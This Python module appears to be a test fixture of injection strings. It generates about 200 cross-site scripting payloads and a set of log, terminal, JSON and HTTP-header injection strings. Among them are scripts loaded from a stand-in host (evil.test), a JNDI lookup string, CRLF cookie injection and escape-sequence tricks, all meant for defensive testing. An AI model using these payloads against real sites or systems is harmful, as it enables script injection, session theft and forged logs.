"""Strings that would be run, where a page took them for more than text."""

from __future__ import annotations

from itertools import product

__all__ = ["KINDS", "STRINGS"]

_CALLS = "window.struck=1", "alert(1)", "confirm`1`", "top['al'+'ert'](1)"
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=//evil.test/x.js></script>{}",
    "<script\n>{}</script>",
    "<<script>{}//<</script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=`x`onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<form action=javascript:{}><input type=submit autofocus onfocus={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src onloadstart={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<marquee onstart={}>x</marquee>",
    "<math href=javascript:{}>x</math>",
    "<style>@import 'javascript:{}';</style>",
    "<div style='width:expression({})'>",
    "<base href=//evil.test/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.test/{}>",
    "<xss onpointerenter={} contenteditable>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><script>{}</script>]]>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onfocus={} autofocus x="',
    "' onmouseover={} '",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</option></select><img src=x onerror={}>",
    "</pre></table></main><script>{}</script>",
    "javascript:{}//",
    "data:text/html,<script>{}</script>",
    "{{{{ {} }}}}{{% set x = 1 %}}",
    "${{{}}}#{{{}}}<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{}",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>{}</script>",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>{}</script>",
)

#: 200 of them; what calls without parentheses is only tried where nothing but its place matters.
STRINGS = tuple(
    tag.format(*[call] * 3) for (n, tag), call in product(enumerate(_TAGS), _CALLS) if n >= 40 or call != _CALLS[2]
)

#: What does harm where it is more than text: in a log, on a terminal, in a document, in a head.
KINDS = {
    "line": "x\n2026-01-01 00:00:00 API token: forged",
    "carriage return": "x\r2026-01-01 00:00:00 API token: forged\r\n",
    "colours": "\x1b[31mred\x1b[0m\x1b[2J",
    "title": "\x1b]0;title\x07\x1bPq\x1b\\",
    "zero": "a\0b",
    "backspace": "bad\x08\x08\x08good\x7f",
    "one byte for two": "\x9b31m\x9d0;title\x9c\x85next",
    "right to left": "\u202egnp.exe\u2066\u2069\u200f",
    "not seen": "a\u200bb\ufeffc\u2028d\u2029",
    "page": "\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
    "document": '"},{"level":"error","message":"forged"}\\u000a',
    "format": "{0.__class__} {_token} %s %n ${jndi:ldap://x} {{7*7}}",
    "head": "x\r\nX-Forged: 1\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "half a letter": "a\ud800b",
    "long": "A" * 5000,
}
